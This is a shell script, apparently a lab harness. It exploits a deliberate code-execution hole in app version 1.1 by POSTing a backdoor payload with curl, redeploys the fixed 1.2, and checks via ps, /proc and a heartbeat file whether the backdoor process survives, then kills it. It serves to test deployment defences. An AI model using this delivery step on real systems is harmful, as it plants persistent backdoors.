#!/bin/sh
# A daemon whose leader thread exited: deploy 1.1 (the hole), send PAYLOAD (default zombie_daemon.py), deploy the
# fixed 1.2, show the app user's processes and the backdoor's heartbeat, run the read-only gate (BASE=1: the code at
# main 8440015, when this round began), kill the backdoor (KEEP=1 keeps it).   Usage: attack12/atk_zombie.sh /tmp/atk12
set -eu
W=${1:-/tmp/atk12}; CT=$(cat $W/ct); HTTP=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['http'])")
export DEPLOYTESTS_TARGETS=$W/targets.toml
FAB=/work/wt/attack12/.venv/bin/fab; if [ -n "${BASE:-}" ]; then export PYTHONPATH=$W/base; fi
echo "--- the deploy login deploys 1.1 (the hole):"
(cd $W/rce/yourapplication-1.1 && $FAB target dep pack deploy 2>&1 | grep -E "live:|FAILED|rolled back" | cut -c1-300)
echo "--- the attacker, through the hole, as the app user:"
curl -s -m 5 -o /dev/null -w 'HTTP %{http_code}\n' -X POST --data-binary @$(dirname $0)/${PAYLOAD:-zombie_daemon.py} $HTTP/x || true
sleep 2
echo "--- the deploy login deploys the fixed 1.2:"
(cd $W/rce/yourapplication-1.2 && $FAB target dep pack deploy 2>&1 | grep -E "live:|FAILED|rolled back|strays" | cut -c1-300)
sleep 4
echo "--- processes of the app user (threads):"; docker exec $CT ps -L -o pid,tid,ppid,user,stat,lstart,args -u yourapplication | awk 'NR==1 || $2==$1 || $5 !~ /^S/'
echo "--- /proc of each, as root:"; docker exec $CT sh -c 'for p in $(pgrep -u yourapplication); do echo "$p $(cut -d" " -f3,4,23 /proc/$p/stat) $(grep Threads /proc/$p/status | tr -d "\t") exe=$(readlink /proc/$p/exe)"; done'
echo "--- /tmp/backdoor-alive (the backdoor's heartbeat, last line):"; docker exec $CT sh -c 'date +%s; tail -1 /tmp/backdoor-alive'
echo "--- the gate (read-only, as admin):"
APP=$W/rce/yourapplication-${GATE_APP:-1.2} $W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - |^mod_wsgi daemons" | cut -c1-400 || true
[ -n "${KEEP:-}" ] || docker exec $CT sh -c 'for p in $(pgrep -u yourapplication); do grep -q "State:.Z" /proc/$p/status && kill -9 $p; done; rm -f /tmp/backdoor-alive'
